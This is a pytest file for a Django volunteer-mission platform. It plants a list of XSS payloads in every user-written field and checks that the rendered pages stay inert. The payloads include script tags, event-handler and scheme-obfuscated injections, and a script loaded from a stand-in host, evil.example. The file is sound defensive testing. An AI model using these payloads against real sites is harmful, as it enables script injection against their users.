"""XSS corpus (issue 7, "Input, output, files"): every payload is stored in every field a
person writes and that a page displays, and the pages that show those fields are read back:
no script, no event handler, no javascript:/data: link coming from the payload.

The texts are stored with the ORM, as the services store them (they keep what people type
verbatim: escaping belongs to the output), so one test can fill every field of a page at once.
"""

from __future__ import annotations

import datetime as dt
import json
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone

from soscience.applications.models import Application, TeamMember
from soscience.cases.models import Case
from soscience.closing.models import OrganisationSurvey
from soscience.events.models import Event
from soscience.execution.models import ProgressUpdate, UpdateReply
from soscience.groups.models import GroupMember, GroupPost, WorkingGroup
from soscience.missions.models import Mission
from soscience.volunteers.models import VolunteerProfile
from tests.factories import CampusFactory, MissionFactory, NeedFactory
from tests.tally import tally

# Each payload would run alert() if it reached the page as markup.
PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "[click](javascript:alert(1))",
    '[click](JAVASCRIPT:alert(1) "t")',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "{{ request.user.email }}{% debug %}",
    "`<script>alert(1)</script>`",
]
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}


class _Checker(HTMLParser):
    """Collects what would execute: scripts not served from /static/, event-handler
    attributes, dangerous URLs, and tags the site never emits itself."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False
        self._json_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self._in_script = True
            src = values.get("src") or ""
            # JSON-LD is data, not code; it must still be closed where the site closes it.
            self._json_data = values.get("type") == "application/ld+json"
            if not src.startswith("/static/") and not self._json_data:
                self.problems.append(f"script {attrs}")
        if tag in {"iframe", "object", "embed", "base", "frame"}:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                self.problems.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES and value:
                squeezed = "".join(value.split()).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        if self._in_script and self._json_data:
            try:
                json.loads(data)
            except ValueError:
                self.problems.append(f"JSON-LD broken open: {data[:80]!r}")
            if "<" in data:
                self.problems.append(f"markup inside JSON-LD: {data[:80]!r}")
        elif self._in_script and data.strip():
            self.problems.append(f"inline script {data[:60]!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False


def assert_inert(response, where: str) -> None:
    assert response.status_code == 200, f"{where}: {response.status_code}"
    html = response.content.decode()
    checker = _Checker()
    checker.feed(html)
    assert checker.problems == [], f"{where}: {checker.problems}"


def _on_team(mission: Mission, volunteer) -> None:
    application = Application.objects.create(
        mission=mission, volunteer=volunteer, status=Application.Status.SELECTED,
        applied_at=timezone.now(),
    )  # fmt: skip
    TeamMember.objects.create(
        mission=mission, application=application, volunteer=volunteer, seat=1,
        capacity=mission.team_size,
    )  # fmt: skip


def _fill(obj, payload: str, fields: tuple[str, ...]) -> int:
    for name in fields:
        limit = obj._meta.get_field(name).max_length or 8000
        setattr(obj, name, payload[:limit])
    obj.save()
    return len(fields)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_on_every_page_that_shows_written_text(cast, payload):
    tried = 0
    coordinator = cast.client("coordinator")
    organisation = cast.organisation
    tried += _fill(organisation, payload, ("name", "city", "social_mission", "beneficiaries"))
    tried += _fill(cast.volunteer, payload, ("full_name",))
    profile, _ = VolunteerProfile.objects.get_or_create(user=cast.volunteer)
    tried += _fill(profile, payload, ("programme", "bio", "city"))

    need = NeedFactory(organisation=organisation)
    tried += _fill(need, payload, ("title", "problem", "context", "already_tried",
                                   "desired_outcome", "city"))  # fmt: skip
    mission = MissionFactory(
        organisation=organisation, supervisor=cast.supervisor, created_by=cast.coordinator,
        status=Mission.Status.IN_PROGRESS, published_at=timezone.now(),
    )  # fmt: skip
    tried += _fill(mission, payload, ("title", "context", "problem", "objectives",
                                      "deliverables", "out_of_scope", "city"))  # fmt: skip
    _on_team(mission, cast.volunteer)
    open_mission = MissionFactory(
        organisation=organisation, status=Mission.Status.OPEN, published_at=timezone.now()
    )
    tried += _fill(open_mission, payload, ("title", "context", "problem", "objectives",
                                           "deliverables", "out_of_scope"))  # fmt: skip
    update = ProgressUpdate.objects.create(
        mission=mission, author=cast.volunteer, body=payload, visibility="shared"
    )
    UpdateReply.objects.create(update=update, author=cast.member, body=payload)
    tried += 2

    group = WorkingGroup.objects.create(
        title=payload[:200], theme=payload[:200], description=payload, created_by=cast.coordinator
    )
    GroupMember.objects.create(group=group, user=cast.volunteer, expertise=payload[:300])
    GroupPost.objects.create(group=group, author=cast.volunteer, body=payload)
    tried += 5

    starts = timezone.now() + dt.timedelta(days=7)
    event = Event.objects.create(
        title=payload[:200], slug="xss-event", description=payload, speakers=payload,
        campus=CampusFactory(slug="xss", name="XSS campus"), room=payload[:200],
        starts_at=starts, ends_at=starts + dt.timedelta(hours=2), capacity=5,
        status=Event.Status.PUBLISHED, created_by=cast.coordinator,
    )  # fmt: skip
    tried += 4

    closed = MissionFactory(
        organisation=organisation, supervisor=cast.supervisor, created_by=cast.coordinator,
        status=Mission.Status.CLOSED, closed_at=timezone.now(),
    )  # fmt: skip
    OrganisationSurvey.objects.create(
        mission=closed, worked=4, applied=OrganisationSurvey.Applied.YES, local_impact=payload,
        beneficiaries=10, recommend=9, testimonial=payload, testimonial_consent=True,
        case_consent=True, answered_by=cast.member,
    )  # fmt: skip
    case = Case.objects.create(
        mission=closed, slug="xss-case", title=payload[:200], problem=payload, solution=payload,
        results=payload, created_by=cast.coordinator, status=Case.Status.PUBLISHED,
        published_at=timezone.now(),
    )  # fmt: skip
    tried += 6

    pages = {
        "organisation": (coordinator, reverse("organisations:detail", args=[organisation.pk])),
        "need": (coordinator, reverse("needs:detail", args=[need.pk])),
        "mission (public)": (cast.client(None), reverse("missions:detail", args=[open_mission.pk])),
        "catalogue": (cast.client(None), reverse("missions:catalogue")),
        "mission (manage)": (coordinator, reverse("missions:manage", args=[mission.pk])),
        "mission space": (coordinator, reverse("execution:space", args=[mission.pk])),
        "volunteer": (coordinator, reverse("volunteers:volunteer_detail", args=[profile.pk])),
        "own profile": (cast.client("volunteer"), reverse("volunteers:profile")),
        "group": (coordinator, reverse("groups:detail", args=[group.pk])),
        "event": (cast.client(None), reverse("events:detail", args=[event.slug])),
        "case": (cast.client(None), reverse("cases:detail", args=[case.slug])),
        "impact": (cast.client(None), reverse("impact:public")),
        "dashboard": (coordinator, reverse("core:dashboard")),
    }
    for where, (client, url) in pages.items():
        assert_inert(client.get(url), where)
    tally("XSS payloads tried", tried)
    tally("XSS pages read", len(pages))


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="data:text/html;base64,xx">x</a>',
        '<p title="" onmouseover="alert(1)">x</p>',
        '<script type="application/ld+json">{"a": "</script><script>alert(1)</script>"}',
    ],
)
def test_the_checker_sees_markup_that_would_run(markup):
    """The check above is not blind: raw payloads, unescaped, are all caught."""
    checker = _Checker()
    checker.feed(f"<main>{markup}</main>")
    assert checker.problems
